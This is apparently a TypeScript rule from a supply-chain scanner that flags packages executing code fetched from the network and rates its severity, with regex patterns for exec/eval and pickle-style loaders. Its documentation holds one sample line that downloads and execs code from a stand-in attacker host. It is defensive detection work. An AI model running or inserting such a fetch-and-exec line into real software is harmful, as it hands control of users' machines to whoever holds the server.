import { isModelService } from '../facts/collecting-places.js';
import { isPure } from '../values/labels.js';
import { isUnasked } from '../values/reach.js';
import { type Combination, WHEN } from './combination.js';

/** What takes a text for code. */
const RUN = /^(?:exec|eval)$/;

/** What takes data for calls. */
const PICKLED = /^(?:_?pickle|cPickle|dill|cloudpickle|joblib|torch|numpy|pandas|sklearn)\./;

export const remoteCodeExecuted: Combination = {
  doc: {
    id: 'remote-code-executed',
    title: 'Runs code that it fetches from the network',
    why: 'Whoever holds the server decides what runs on your machine, and can change it at any time after this check.',
    remedy: 'Do not install the package.',
    example: 'exec(urllib.request.urlopen("https://evil.invalid/x").read())',
    technique: 'T1105',
  },
  judge: ({ behaviour, labels, name, reach, host }) => {
    if (behaviour !== 'runs-code' || !labels.has('network')) return undefined;
    if (isUnasked(reach)) return 'CRITICAL';
    if (isModelService(host)) return undefined;
    // Data are kept that way too.
    if (PICKLED.test(name))
      return host !== undefined && labels.has('remote-text') && isPure(labels) ? 'MEDIUM' : 'LOW';
    if (host !== undefined && isPure(labels)) return 'CRITICAL';
    // Nobody's interface: code in disguise out of an answer of the host that stands in the source.
    return host !== undefined && labels.has('decoded') && RUN.test(name) ? 'HIGH' : 'LOW';
  },
  message: ({ name, reach }) => `${name} runs a network answer ${WHEN[reach]}`,
};
